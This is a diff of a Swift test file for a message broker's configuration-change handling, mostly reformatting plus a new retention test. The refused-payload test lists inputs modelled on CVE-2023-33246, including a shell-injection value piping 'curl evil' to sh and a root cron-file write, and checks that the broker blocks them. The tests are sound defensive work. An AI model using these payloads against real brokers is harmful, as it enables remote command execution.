@@ -17,19 +17,27 @@ struct ConfigurationChangeTests {
 
     @Test("What may change while the broker runs")
     func allowed() throws {
-        let configuration = try apply("brokerPermission=4\nautoCreateTopicEnable=false\ntransactionCheckInterval=5000\n")
+        let configuration = try apply(
+            "brokerPermission=4\nautoCreateTopicEnable=false\ntransactionCheckInterval=5000\n")
         #expect(configuration.permission == 4)
         #expect(!configuration.topics.createOnSend)
         #expect(configuration.transactions.checkInterval == .seconds(5))
+        let retention = try apply("fileReservedTime=24\ndeleteWhen=03;15\ndiskMaxUsedSpaceRatio=5\n")
+        #expect(retention.storage.retention == .seconds(24 * 3600))
+        #expect(retention.storage.deleteHours == [3, 15])
+        #expect(retention.storage.diskUsePercent == 10)
     }
 
-    @Test("The payloads of CVE-2023-33246 and what resembles them are refused", arguments: [
-        "filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl evil;\n", "rocketmqHome=/tmp\n",
-        "brokerConfigPath=/etc/cron.d/x\nbrokerName=* * * * * root sh\n", "configBlackList=\n",
-        "storePathRootDir=/etc\n", "storePathCommitLog=/tmp/x\n", "kvConfigPath=/tmp/x\n", "namesrvAddr=evil:9876\n",
-        "messageStorePlugIn=Evil\n", "filterServerNums=1\n", "brokerName=x\\nrocketmqHome=y\n", "listenPort=1\n",
-        "dLegerPeers=n0-evil:1\n", "regionId=x\n", "maxMessageSize=1\n",
-    ])
+    @Test(
+        "The payloads of CVE-2023-33246 and what resembles them are refused",
+        arguments: [
+            "filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl evil;\n", "rocketmqHome=/tmp\n",
+            "brokerConfigPath=/etc/cron.d/x\nbrokerName=* * * * * root sh\n", "configBlackList=\n",
+            "storePathRootDir=/etc\n", "storePathCommitLog=/tmp/x\n", "kvConfigPath=/tmp/x\n",
+            "namesrvAddr=evil:9876\n",
+            "messageStorePlugIn=Evil\n", "filterServerNums=1\n", "brokerName=x\\nrocketmqHome=y\n", "listenPort=1\n",
+            "dLegerPeers=n0-evil:1\n", "regionId=x\n", "maxMessageSize=1\n",
+        ])
     func refused(text: String) {
         let error = #expect(throws: RequestError.self) { _ = try apply(text) }
         #expect(error?.code == .noPermission)
@@ -39,11 +47,13 @@ struct ConfigurationChangeTests {
     func allOrNothing() {
         var configuration = BrokerConfiguration()
         let unknown = #expect(throws: RequestError.self) {
-            try ConfigurationChange(parsing: "brokerPermission=4\nnoSuchKey=1", protectedKeys: []).apply(to: &configuration)
+            try ConfigurationChange(parsing: "brokerPermission=4\nnoSuchKey=1", protectedKeys: []).apply(
+                to: &configuration)
         }
         #expect(unknown?.remark.contains("noSuchKey") == true)
         let invalid = #expect(throws: RequestError.self) {
-            try ConfigurationChange(parsing: "brokerPermission=4\ntraceOn=maybe", protectedKeys: []).apply(to: &configuration)
+            try ConfigurationChange(parsing: "brokerPermission=4\ntraceOn=maybe", protectedKeys: []).apply(
+                to: &configuration)
         }
         #expect(invalid?.remark.contains("traceOn=maybe") == true)
         #expect(configuration == BrokerConfiguration())
@@ -53,7 +63,9 @@ struct ConfigurationChangeTests {
     func blackList() {
         let built = #expect(throws: RequestError.self) { _ = try apply("rocketmqHome=/x") }
         #expect(built?.remark == "Can not update config in black list.")
-        let own = #expect(throws: RequestError.self) { _ = try apply("brokerPermission=4", protectedKeys: ["brokerPermission"]) }
+        let own = #expect(throws: RequestError.self) {
+            _ = try apply("brokerPermission=4", protectedKeys: ["brokerPermission"])
+        }
         #expect(own?.remark == "Can not update config in black list.")
     }
 
@@ -89,8 +101,11 @@ struct PropertiesTextTests {
     @Test("A new key is appended, a repeated one is left once, a continued one is replaced whole")
     func places() {
         #expect(PropertiesText.setting([("traceOn", "false")], in: "a=1") == "a=1\ntraceOn=false\n")
-        #expect(PropertiesText.setting([("traceOn", "false")], in: "traceOn=true\na=1\ntraceOn=true\n") == "a=1\ntraceOn=false\n")
-        #expect(PropertiesText.setting([("traceOn", "false")], in: "traceOn=\\\n  true\na=1\n") == "traceOn=false\na=1\n")
+        #expect(
+            PropertiesText.setting([("traceOn", "false")], in: "traceOn=true\na=1\ntraceOn=true\n")
+                == "a=1\ntraceOn=false\n")
+        #expect(
+            PropertiesText.setting([("traceOn", "false")], in: "traceOn=\\\n  true\na=1\n") == "traceOn=false\na=1\n")
         #expect(PropertiesText.setting([("a", "1")], in: "# c \\\na=2\n") == "# c \\\na=1\n")
     }
 
@@ -109,7 +124,8 @@ struct PropertiesTextTests {
         try plain.write(ByteBuffer(string: original), at: 0)
         let file = ConfigurationFile(path: "conf/broker.conf", device: device)
         try file.set([("traceOn", "false")])
-        #expect(try device.contents(of: "conf/broker.conf").map { String(buffer: $0) } == "brokerName=a\ntraceOn=false\n")
+        #expect(
+            try device.contents(of: "conf/broker.conf").map { String(buffer: $0) } == "brokerName=a\ntraceOn=false\n")
         #expect(try device.contents(of: "conf/broker.conf.bak").map { String(buffer: $0) } == original)
     }
 }
